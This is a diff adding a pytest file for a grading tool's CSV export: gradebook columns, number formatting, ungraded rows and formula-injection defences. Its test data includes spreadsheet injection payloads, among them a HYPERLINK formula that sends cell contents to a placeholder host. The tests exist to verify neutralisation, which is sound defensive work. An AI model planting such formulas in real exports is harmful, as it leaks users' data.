@@ -1,0 +1,97 @@
+"""Results and gradebook CSVs: columns, ungraded rows, and formula injection (BAD_INPUTS 40)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from batch_fixtures import simple
+
+from grader.batches.export import (
+    format_number,
+    gradebook_csv,
+    results_csv,
+    safe_cell,
+    write_csv,
+)
+
+HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def _read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _records():
+    return [
+        {"submission_id": "a1", "student_id": "s1", "status": "graded",
+         "result": simple(2, 1, 0.5)},
+        {"submission_id": "a2", "student_id": "s2", "status": "queued", "result": None},
+    ]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_injection_prone_text_gets_a_leading_quote(value):
+    assert safe_cell(value) == "'" + value
+
+
+def test_injection_cells_survive_the_csv_module():
+    records = [{"student_id": v, "status": "graded", "result": simple(1, 1, 1)} for v in HOSTILE]
+    rows = _read(gradebook_csv(records, "moodle"))
+    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
+    for row in rows[1:]:
+        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_negative_numbers_stay_numeric():
+    rows = _read(write_csv([["s1", -1.5, -2, 0.0, "-3"]]))
+    assert rows == [["s1", "-1.5", "-2", "0", "'-3"]]  # the string "-3" is text, and stays so
+    assert float(rows[0][1]) == -1.5
+
+
+def test_number_format():
+    assert [format_number(x) for x in (1.0, 0.1 + 0.2, 1e-5, -0.00001, 12.34567)] == [
+        "1", "0.3", "0", "0", "12.3457",
+    ]
+    assert safe_cell(float("nan")) == "" and safe_cell(None) == "" and safe_cell(True) == "true"
+
+
+def test_canvas_gradebook():
+    rows = _read(gradebook_csv(_records(), "canvas"))
+    assert rows == [["Student ID", "q1", "q2", "Total"], ["s1", "2", "1.5", "3.5"],
+                    ["s2", "", "", ""]]  # not graded yet: empty, so an import keeps the old grade
+    with_feedback = _read(gradebook_csv(_records(), "canvas", feedback=True))
+    assert with_feedback[0][-1] == "Feedback"
+
+
+def test_moodle_gradebook_has_feedback():
+    records = _records()
+    records[0]["result"]["questions"][1]["criteria"][1]["feedback"] = "=Missing: tanh"
+    rows = _read(gradebook_csv(records, "moodle"))
+    assert rows[0] == ["ID number", "q1", "q2", "Total", "Feedback"]
+    assert rows[1][:4] == ["s1", "2", "1.5", "3.5"]
+    assert rows[1][4] == "q2 (1.5/2): =Missing: tanh"  # not at the start: no quote needed
+    records[0]["result"]["questions"][0]["criteria"][0]["score"] = 0
+    records[0]["result"]["questions"][0]["score"] = 0
+
+
+def test_feedback_starting_with_a_trigger_is_quoted():
+    records = _records()
+    records[0]["result"]["questions"] = records[0]["result"]["questions"][1:]
+    records[0]["result"]["questions"][0]["id"] = "-q"
+    rows = _read(gradebook_csv(records, "moodle"))
+    assert rows[1][-1].startswith("'-q (1.5/2)")
+
+
+def test_results_csv_with_criteria():
+    rows = _read(results_csv(_records(), criteria=True))
+    assert rows[0] == ["student_id", "submission_id", "status", "score", "max_score",
+                       "needs_review", "q1", "q2", "q1.a", "q2.b1", "q2.b2"]
+    assert rows[1] == ["s1", "a1", "graded", "3.5", "4", "false", "2", "1.5", "2", "1", "0.5"]
+    assert rows[2] == ["s2", "a2", "queued", "", "", "", "", "", "", "", ""]
+
+
+def test_unknown_form():
+    with pytest.raises(ValueError, match="canvas or moodle"):
+        gradebook_csv(_records(), "blackboard")  # type: ignore[arg-type]
